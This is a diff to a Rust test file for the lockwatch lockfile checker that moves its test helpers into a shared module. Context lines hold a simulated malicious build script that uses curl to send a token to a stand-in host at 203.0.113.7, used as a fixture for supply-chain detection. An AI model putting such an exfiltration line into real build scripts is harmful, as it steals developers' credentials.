@@ -7,10 +7,9 @@
 use lockwatch::registry::IndexDep;
 use lockwatch::registry::fake::FakeRegistry;
 use lockwatch::testkit::Krate;
-use lockwatch_tests::bin::run_lockwatch;
-use lockwatch_tests::lockgen::{Pkg, lock, member};
+use lockwatch_tests::lockgen::{lock, member};
+use lockwatch_tests::registry_check::{findings, pkg, run_check};
 use serde_json::Value;
-use std::path::Path;
 
 const EVIL_BUILD: &str = r#"use std::io::Write;
 use std::net::TcpStream;
@@ -22,79 +21,6 @@ fn main() {
     Command::new("curl").arg("-d").arg(token).arg("http://203.0.113.7/").status().ok();
 }
 "#;
-
-fn pkg(name: &str, version: &str, checksum: &str, deps: &[&str]) -> Pkg {
-    Pkg {
-        name: name.into(),
-        version: version.into(),
-        source: Some("registry+https://github.com/rust-lang/crates.io-index".into()),
-        checksum: Some(checksum.into()),
-        deps: deps.iter().map(|s| s.to_string()).collect(),
-    }
-}
-
-fn findings<'a>(v: &'a Value, code: &str, krate: &str) -> Vec<&'a Value> {
-    v["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|f| f["code"] == code && f["crate"] == krate)
-        .collect()
-}
-
-fn run_check(
-    base: &str,
-    head: &str,
-    registry: &FakeRegistry,
-    scratch: &Path,
-    extra: &[&str],
-) -> Value {
-    let dir = scratch.join("locks");
-    std::fs::create_dir_all(&dir).unwrap();
-    std::fs::write(dir.join("base.lock"), base).unwrap();
-    std::fs::write(dir.join("Cargo.lock"), head).unwrap();
-    let index = registry.index_url().to_string();
-    let index = if index.starts_with("sparse+") {
-        index
-    } else {
-        format!("sparse+{index}")
-    };
-    let db = extra
-        .iter()
-        .position(|a| *a == "--advisory-db")
-        .map(|i| extra[i + 1].to_string())
-        .unwrap_or_else(|| lockwatch_tests::bin::fixture_db().display().to_string());
-    let extra: Vec<&str> = extra
-        .iter()
-        .enumerate()
-        .filter(|(i, a)| **a != "--advisory-db" && (*i == 0 || extra[i - 1] != "--advisory-db"))
-        .map(|(_, a)| *a)
-        .collect();
-    let (b, h) = (
-        dir.join("base.lock").display().to_string(),
-        dir.join("Cargo.lock").display().to_string(),
-    );
-    let cache = scratch.join("cache").display().to_string();
-    let mut args = vec![
-        "check",
-        "--format",
-        "json",
-        "--advisory-db",
-        &db,
-        "--index-url",
-        &index,
-        "--cache-dir",
-        &cache,
-        "--base-lock",
-        &b,
-        "--head-lock",
-        &h,
-    ];
-    args.extend_from_slice(&extra);
-    let out = run_lockwatch(&args, scratch);
-    serde_json::from_slice(&out.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
-}
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_arrayref_attack_is_caught_without_an_advisory() {
